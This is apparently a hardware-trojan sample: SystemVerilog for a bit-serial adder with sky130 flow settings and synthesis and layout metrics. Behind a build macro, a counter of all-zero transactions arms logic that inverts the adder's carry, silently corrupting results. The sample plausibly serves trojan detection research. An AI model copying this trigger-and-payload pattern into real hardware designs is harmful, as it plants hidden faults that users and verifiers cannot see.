<file path="src/rtl/serial_adder_pkg.sv">
`default_nettype none
// ============================================================================
//  Module      : serial_adder_pkg
//  Description : Shared types and helpers for the bit-serial adder: FSM state
//                enum, trigger counter type and bit-index width helper.
//  Revision    : 1.0 - initial release
// ============================================================================
package serial_adder_pkg;

    // Controller states
    typedef enum logic [1:0] {
        IDLE = 2'd0,
        RUN  = 2'd1,
        DONE = 2'd2
    } state_t;

    // Trigger counter width and type
    localparam int c_TRIG_CNT_W = 8;
    typedef logic [c_TRIG_CNT_W-1:0] trig_cnt_t;

    // Bits needed to index 0..width-1 (at least one bit)
    function automatic int idx_width(input int width);
        return (width <= 2) ? 1 : $clog2(width);
    endfunction

endpackage
`default_nettype wire

</file>
<file path="src/rtl/full_adder_cell.sv">
`default_nettype none
// ============================================================================
//  Module      : full_adder_cell
//  Description : One-bit combinational full adder. When arm is high the carry
//                output is inverted whenever both operand bits are zero.
//  Revision    : 1.0 - initial release
// ============================================================================
module full_adder_cell (
    input  logic x,
    input  logic y,
    input  logic c,
    input  logic arm,
    output logic s,
    output logic carry
);

    logic w_carry_ok;

    // Sum, correct carry and the optionally corrupted carry
    always_comb begin
        s          = x ^ y ^ c;
        w_carry_ok = (x & y) | (c & (x ^ y));
        carry      = w_carry_ok ^ (arm & ~(x | y));
    end

endmodule
`default_nettype wire

</file>
<file path="src/rtl/serial_adder_trojan.sv">
`default_nettype none
// ============================================================================
//  Module      : serial_adder_trojan
//  Description : Bit-serial WIDTH-bit adder, LSB first, one bit per clock,
//                with valid/ready handshakes on operands and result.
//                Build macro SERIAL_ADDER_TROJAN_EN enables a counter of
//                all-zero transactions that, once it reaches TRIG_COUNT,
//                arms a carry-corrupting payload in the adder cell.
//  Revision    : 1.0 - initial release
// ============================================================================
module serial_adder_trojan
    import serial_adder_pkg::*;
#(
    parameter int WIDTH      = 8,
    parameter int TRIG_COUNT = 4
) (
    input  logic             clk,
    input  logic             rst,
    input  logic             in_valid,
    output logic             in_ready,
    input  logic [WIDTH-1:0] a,
    input  logic [WIDTH-1:0] b,
    input  logic             cin,
    output logic             out_valid,
    input  logic             out_ready,
    output logic [WIDTH-1:0] sum,
    output logic             cout
);

    localparam int c_IDX_W = idx_width(WIDTH);

    state_t             r_state;
    state_t             w_state_next;
    logic [WIDTH-1:0]   r_a_sh;
    logic [WIDTH-1:0]   r_b_sh;
    logic [WIDTH-1:0]   r_sum;
    logic               r_carry;
    logic               r_cout;
    logic [c_IDX_W-1:0] r_idx;
    logic               w_accept;
    logic               w_last;
    logic               w_s;
    logic               w_carry;
    logic               w_arm;

    assign w_accept = in_valid && (r_state == IDLE);
    assign w_last   = (r_idx == c_IDX_W'(WIDTH - 1));

    // State register
    always_ff @(posedge clk) begin
        if (rst) r_state <= IDLE;
        else     r_state <= w_state_next;
    end

    // Next-state logic
    always_comb begin
        w_state_next = r_state;
        case (r_state)
            IDLE:    if (in_valid)  w_state_next = RUN;
            RUN:     if (w_last)    w_state_next = DONE;
            DONE:    if (out_ready) w_state_next = IDLE;
            default:                w_state_next = IDLE;
        endcase
    end

    // Handshake outputs decoded from state
    always_comb begin
        in_ready  = (r_state == IDLE);
        out_valid = (r_state == DONE);
    end

    // Datapath: latch operands on accept, one bit step per RUN cycle
    always_ff @(posedge clk) begin
        if (rst) begin
            r_a_sh  <= '0;
            r_b_sh  <= '0;
            r_sum   <= '0;
            r_carry <= 1'b0;
            r_cout  <= 1'b0;
            r_idx   <= '0;
        end else if (w_accept) begin
            r_a_sh  <= a;
            r_b_sh  <= b;
            r_carry <= cin;
            r_idx   <= '0;
        end else if (r_state == RUN) begin
            r_sum   <= {w_s, r_sum[WIDTH-1:1]};
            r_a_sh  <= {1'b0, r_a_sh[WIDTH-1:1]};
            r_b_sh  <= {1'b0, r_b_sh[WIDTH-1:1]};
            r_carry <= w_carry;
            r_idx   <= r_idx + c_IDX_W'(1);
            if (w_last) r_cout <= w_carry;
        end
    end

    full_adder_cell u_cell (
        .x     (r_a_sh[0]),
        .y     (r_b_sh[0]),
        .c     (r_carry),
        .arm   (w_arm),
        .s     (w_s),
        .carry (w_carry)
    );

`ifdef SERIAL_ADDER_TROJAN_EN
    trig_cnt_t r_trig_cnt;
    logic      r_arm;

    // Count all-zero accepts (saturating); arm state is captured from the
    // pre-increment count so the arming transaction itself stays clean
    always_ff @(posedge clk) begin
        if (rst) begin
            r_trig_cnt <= '0;
            r_arm      <= 1'b0;
        end else if (w_accept) begin
            r_arm <= (r_trig_cnt == trig_cnt_t'(TRIG_COUNT));
            if ((a == '0) && (b == '0) && !cin &&
                (r_trig_cnt != trig_cnt_t'(TRIG_COUNT)))
                r_trig_cnt <= r_trig_cnt + trig_cnt_t'(1);
        end
    end

    assign w_arm = r_arm;
`else
    logic [31:0] w_unused_trig_count;
    assign w_unused_trig_count = TRIG_COUNT;
    assign w_arm = 1'b0;
`endif

    assign sum  = r_sum;
    assign cout = r_cout;

endmodule
`default_nettype wire

</file>
<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = serial_adder_trojan
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/serial_adder_pkg.sv /design/src/rtl/full_adder_cell.sv /design/src/rtl/serial_adder_trojan.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
export CAP_MARGIN = 25
export CORE_MARGIN = 2
export CORE_UTILIZATION = 30
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4 sky130_fd_sc_hd__clkbuf_8
export DETAILED_ROUTE_END_ITERATION = 10
export PLACE_DENSITY_LB_ADDON = 0.2
export SETUP_SLACK_MARGIN = 0.4
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
</file>
<file path="constraint.sdc">
create_clock -name clk -period 1.42 [get_ports clk]
set_clock_uncertainty 0.2 [all_clocks]
set_input_delay 0 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
</file>
; ---- After elaboration in Yosys (flattened, before gate mapping)
; Cells that the tools add are included.
[classes]
n_addsub = 1
eq_ne = 6
mux = 10
bitwise_logic = 6
n_reduce_logical = 7
[op_table]
columns = op, n
row1 = 8-bit 2-to-1 mux, 4
row2 = 2-bit 2-to-1 mux, 3
row3 = 2-bit case mux with 3 select lines, 1
row4 = 3-bit AND reduction, 2
row5 = 2-bit != test (second input constant), 2
row6 = 3-bit by 1-bit adder with 3-bit output (second input constant), 1
row7 = 3-bit == test (second input constant), 1
row8 = 1-bit AND, 2
row9 = 2-bit by 1-bit == test with 1-bit output (second input constant), 1
row10 = 2-bit == test (second input constant), 1
row11 = 2-bit logical NOT, 1
row12 = 1-bit 2-to-1 mux, 2
row13 = 2-bit by 1-bit != test with 1-bit output (second input constant), 1
row14 = 2-bit AND reduction, 1
row15 = 2-bit nonzero test, 1
row16 = 2-bit OR reduction, 1
row17 = 1-bit XOR, 2
row18 = 1-bit logical AND, 1
row19 = 1-bit NOT, 1
row20 = 1-bit OR, 1
[totals]
regBits = 31
inputBits = 21
word_cells = 37

; ---- Longest topological paths before layout
[logic_depth]
depth_word = 5
depth_mapped = 6

; ---- By module
; A second synthesis with hierarchy kept.
[unflattened]
cells_unflattened = 173
area_unflattened_um2 = 1451.4
[by_module_without_submodules]
columns = mod, n_inst, cells_each, area_each_um2
row1 = serial_adder_trojan, 1, 167, 1398.8
row2 = full_adder_cell, 1, 6, 52.6

; ---- Least setup slack after synthesis
; No wires, ideal clock.
[synth_timing]
path_kind = register to register
from = register r_state[1]
to = register r_a_sh[7]
setup_time_ps = 133
arrival_time_ps = 1162
required_ps = 1087
slack_ps = -75
stages_incl_launch_ff = 7
path_buffers = 3
period_less_slack_ps = 1495
cell_sequence = dfxtp_1 -> buf_6 -> or3b_4 -> buf_6 -> buf_8 -> nand3_1 -> a21oi_1
[synth_between]
elab_chain_len = 3
elab_cells_between_ends = 5
classes_between = eq/ne (1) / mux (1) / reduce/logical (3)
[synth_lines]
columns = element, line_no
row1 = start: declaration, serial_adder_trojan.sv:32  ; state_t r_state;
row2 = start signal: assignment, serial_adder_trojan.sv:52  ; else r_state <= w_state_next;
row3 = 2-bit logical NOT, serial_adder_trojan.sv:46  ; assign w_accept = in_valid && (r_state == IDLE);
row4 = 1-bit logical AND, serial_adder_trojan.sv:46
row5 = 8-bit 2-to-1 mux or 2-bit nonzero test (tied branches), n/a
row6 = end signal: assignment, serial_adder_trojan.sv:88  ; r_a_sh <= {1'b0, r_a_sh[WIDTH-1:1]};
row7 = end: declaration, serial_adder_trojan.sv:34  ; logic [WIDTH-1:0] r_a_sh;
; Several ways; a longest one is shown, not always the timed one.
; A chain may end at the register's enable or synchronous reset.

; ---- Worst setup path in the final report
[layout_timing]
from = register r_state[1]
to = register r_sum[0], in the netlist sum[0]
[layout_between]
elab_chain_len = 4
elab_cells_between_ends = 5
classes_between = eq/ne (1) / bitwise (1) / reduce/logical (3)
[layout_lines]
columns = element, line_no
row1 = 2-bit logical NOT, serial_adder_trojan.sv:46
row2 = 1-bit logical AND, serial_adder_trojan.sv:46
row3 = 1-bit NOT (no line), n/a
row4 = 2-bit AND reduction (no line) (*), n/a
row5 = end signal: assignment, serial_adder_trojan.sv:87  ; r_sum <= {w_s, r_sum[WIDTH-1:1]};
row6 = end: declaration, serial_adder_trojan.sv:36  ; logic [WIDTH-1:0] r_sum;
; Mark *: on every way between the ends. The rest lies on a longest branch, timed or not.

==> run metrics <==
DIE WIDTH=71.21 um; drt wl/cell=13.21 um; grt met1 use=0.1586; Post-CTS Hold Buffers=17; headroom to the max-slew limit=0.7456; synthesized flop and latch total=31; dpl cell area=0.001680 mm2; fmax=0.7115 GHz; path depth of the worst reg2reg path=5; CP arrival=1.36 ns; CTS tree=built; Clock power frac=0.358; clk slew on worst S/H paths=0.07 ns; antenna violations before repair=0; via count=1299; Leakage=0.9213 nW; crit path time final=1.405 ns; Comb pwr share=0.198; clk sinks=31; area leader, netlist=dfxtp_1; Area growth syn-to-layout=64.17%; # rows=24; Ports=32; delay-heaviest family, CP=flip-flops; CP max FO=8; vias per inst=4.865; Hold Path Class=in -> reg; crit path buf inv count=2; r2r setup slk=0.01 ns; failing checks=hold timing; Net Count, Synth=182; Yosys top cell area share=0.4580; kind of critical path=reg -> reg; Final Max Slew Viols=0; commonest non-fill, non-tap cells in the layout=37 x buf_4, 22 x nand2_1, 19 x dfxtp_1; final WL=3.526 mm; Power per Cell Area=972.4 mW/mm2; Final Wtd Congestion=0.7292; post-place setup slack=-0.04211 ns; status=finished with violations; # DRC=0; Reg power frac=0.444; reg2reg end=sum[0]$_SDFFE_PP0P_; Final setup viols=0; Reg-to-Reg Start=r_state[1]$_SDFFE_PP0P_; Port Buf Inserts=31; layout cells sized above 1=0.4791; post-DP HPWL=2.092 mm; pin count of the biggest net entering global routing=32; 1st-pass router iterations=4; clk_lat worst skew=0.28 ns; CP cell instances=and2b_2 > buf_12 > buf_12 > nand2_4 > a21oi_2; Die Ht=71.21 um; final design utilization=0.5109; Mapped Cells=158; required time worst endpoint=1.37 ns; CTS HTree Levels=2; worst ir drop on vdd=0.5502 mV; HP Start=in_valid; Hold WS=-0.1095 ns; final hold viol count=27; Sw Ratio=0.2542; met2 Use GR=0.2500; Root Driver=clkbuf_8; Final ANT Viol Nets=0; Synth area leaders=dfxtp_1 46%, a21oi_1 8.5%, a211oi_1 8.3%; Nets=238; total CTS buffers=5; Netlist cell types=28; CTS Buffer Depth=2; critical path launch point type=flop; Ys Warns=0; CP peak stage delay=0.39 ns; maxcap violations=0; critical path's slowest cell=dfxtp_4; RSZ-0062 raised after global routing=yes; setup slack after layout=0.01454 ns; sw power=549.8 uW; core area=0.004354 mm2; Tightest Pin Transition=0.3816 ns; leading cell type in the layout, fill and taps excluded=buf_4; vias in the first global route=1281; cell count of the worst hold path=3; CP Capture Type=flop; Die ar.=0.005070 mm2; CP most frequent cell=buf_12; # diodes=0; GRT Residual Overflow=0; Final period util=0.9898; first-pass GRT wire length=5.678 mm; design area=0.002225 mm2; Internal Pwr Total=1.613 mW; GRT Overall Usage=0.1439; Avg Inst Size Synth=8.576 um2; GR Layer Usage met3=0.05128; initial core utilization=0.3112; Mapped Area=0.001355 mm2; Hold Crit Endpoint=r_b_sh[0]$_SDFFE_PP0P_; post-synthesis sequential area ratio=0.4580; Initial DRC Count=56; GRT busiest layer=met2
## synthesized netlist by cell type, drive strengths merged
master and n:
nor3 3, nor2 18, nand3 3, fa 1, xnor2 1, ha 2, clkbuf 4, dfxtp 31
nand3b 1, o21a 1, o2bb2ai 1, o22ai 3, a21oi 23, and2b 1, nand2b 3, mux2i 2
buf 9, or3b 1, nor2b 1, a211oi 15, nand2 30, o21ba 1, inv 2, nor3b 1
## what timing repair did
action | in CTS | in global routing
pin swaps | 5 | 10
endpoints found under the setup margin | 33 | 38
cloned | 1 | 1
resized for setup | 20 | 43
endpoints found under the hold margin | 31 | 21
buffers inserted | 3 | 0
## area by class of cell
class / count / area (um2)
clock buffer: 8 / 103.9
fill: 407 / 2130
inverter: 2 / 7.507
multi-input combinational: 113 / 824.5
sequential: 31 / 648.1
tap: 52 / 65.06
timing repair buffer: 61 / 575.6
## per-stage QoR
| stage | setup TNS, ns | total power [mW] | hold slack [ns] | instances |
|---|---|---|---|---|
| 6_report | 0 | 2.163 | -0.1095 | 267 |
| 4_1_cts | 0 | 2.142 | -0.1395 | 266 |
| 2_1_floorplan | -0.4745 | 1.178 | -0.1226 | 158 |
| 3_5_place_dp | -0.3930 | 1.289 | 0.06424 | 237 |
| 3_3_place_gp | -0.03049 | 1.286 | 0.05929 | 237 |
| 5_1_grt | -0.09309 | 2.277 | -0.1050 | 267 |
## routing by layer
metal | share of wire | up-vias | wire [um]
li1 | - | 658 | -
met1 | 0.45 | 607 | 1572
met2 | 0.50 | 28 | 1746
met3 | 0.048 | 6 | 168
met4 | 0.011 | 0 | 38
met5 | 0 | - | 0
## worst max-delay path by stage
stage	start	cells after the start	slack, ns	end
floorplan	r_state[1]$_SDFFE_PP0P_	6	-0.05	r_a_sh[6]$_SDFFE_PP0P_
global placement	r_state[1]$_SDFFE_PP0P_	5	-0.006	sum[3]$_SDFFE_PP0P_
detailed placement	r_state[1]$_SDFFE_PP0P_	5	-0.04	sum[5]$_SDFFE_PP0P_
CTS	r_state[1]$_SDFFE_PP0P_	5	0.04	sum[5]$_SDFFE_PP0P_
global route	r_state[1]$_SDFFE_PP0P_	5	-0.02	sum[6]$_SDFFE_PP0P_
finish	r_state[1]$_SDFFE_PP0P_	5	0.01	sum[0]$_SDFFE_PP0P_
## cell families after synthesis
logic type / synth area share
AND/OR/NAND/NOR: 0.2087
XOR/XNOR: 0.006465
flip-flops: 0.4580
AO/OA/AOI/OAI: 0.2013
adder cells (fa/ha/maj): 0.03324
multiplexers: 0.01477
buffers and inverters: 0.07755
## power by group through the flow
| stage | clock, mW | sequential (mW) | combinational, mW |
|---|---|---|---|
| 3_3_place_gp | 0 | 0.974 | 0.312 |
| 3_5_place_dp | 0 | 0.978 | 0.311 |
| 5_1_grt | 0.844 | 0.968 | 0.465 |
| 6_report | 0.775 | 0.961 | 0.428 |
| 4_1_cts | 0.799 | 0.961 | 0.382 |
| 2_1_floorplan | 0 | 0.971 | 0.206 |
## flip-flops by register name, indices dropped and copies added (netlist names)
name     cells
r_idx        3
r_a_sh       8
r_state      2
r_b_sh       8
sum          8
cout         1
r_carry      1
## worst reg2reg max path: stages, from the launching register on
cell and delay (ns):
dfxtp_4 0.39, and2b_2 0.28, buf_12 0.16, buf_12 0.15, nand2_4 0.06, a21oi_2 0.04
(Power assumes the default switching activity.)
